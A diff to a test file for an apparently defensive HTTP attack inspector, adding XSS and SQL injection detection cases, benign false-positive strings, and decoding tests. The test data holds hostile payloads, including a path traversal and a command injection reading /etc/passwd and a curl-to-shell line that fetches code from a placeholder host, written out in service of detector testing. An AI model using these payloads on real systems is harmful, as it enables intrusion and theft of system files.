@@ -30,6 +30,13 @@ describeBackends('inspection', (backend) => {
     ['xss', '<details ontoggle=go()>'],
     ['xss', '"><scr\0ipt src=//a.example>'],
     ['xss', '<a href="jav&#x09;ascript:go()">'],
+    ['xss', 'v b\ts\nc r i p t :'],
+    ['xss', "' in window.status = x"],
+    ['xss', 'x</textarea>y'],
+    ['sqli', "( @a or 'b' ) --"],
+    ['sqli', '7--'],
+    ['sqli', '8+order+by+1--'],
+    ['sqli', 'select @x foo -- y'],
     ['path-traversal', '..%c0%af..%c0%afetc/passwd'],
     ['rce', "; c'a't /e\\tc/passwd"],
     ['rce', '$(curl${IFS}http://a.example/x|sh)'],
@@ -50,9 +57,26 @@ describeBackends('inspection', (backend) => {
     'The "union" of two sets -- a primer #1',
     'Tom & Jerry | cat and mouse; a classic',
     'price <= 100',
+    '(see above) -- the second one',
+    'items 1,2 and 3 (in order) #4',
+    'he said "yes" and 1 more',
+    'a value --> another value',
     'Ünïcödé ’quotes’ – and dashes',
   ])('passes %j', (value) => {
     expect(inspector.inspect(query(value)).attack).toBe(false);
+  });
+
+  test('reads a value whole where character references were taken for separators', () => {
+    expect(categories(get('/?q=1%3B&gt%3B+src+onerror=confirm&lpar;1&rpar;&lt;'))).toContain('xss');
+    expect(categories(post('application/x-www-form-urlencoded', 'a=&lt;svg onload=go()&gt;'))).toContain(
+      'xss',
+    );
+    expect(inspector.inspect(get('/?a=1&amp;b=2&lt=3')).score).toBe(0);
+  });
+
+  test('reads base64 whose plus signs a form has made spaces', () => {
+    const hidden = Buffer.from('<img src=x onerror=alert(document.domain)>>>').toString('base64');
+    expect(categories(get(`/?q=${hidden.replaceAll('=', '')}`))).toContain('xss');
   });
 
   test('reads every format of body', () => {
@@ -84,15 +108,15 @@ describeBackends('inspection', (backend) => {
 
   test('gives detections of the main stream', () => {
     const verdict = inspector.inspect(query('<script>x</script>'));
-    const [detection] = detectionsOf(verdict, {
+    const detections = detectionsOf(verdict, {
       method: 'GET',
       path: '/search',
       clientAddress: '192.0.2.1',
       timeMs: 7,
     });
-    expect(detection).toMatchObject({
+    expect(detections.map(({ ruleId }) => ruleId)).toEqual(['xss-element-closed', 'xss-script-tag']);
+    expect(detections[1]).toMatchObject({
       kind: 'http',
-      ruleId: 'xss-script-tag',
       eventTimeMs: 7,
       matched: [{ field: 'query.q', value: '<script>x</script>' }],
       entities: { 'source.ip': '192.0.2.1', 'url.path': '/search' },
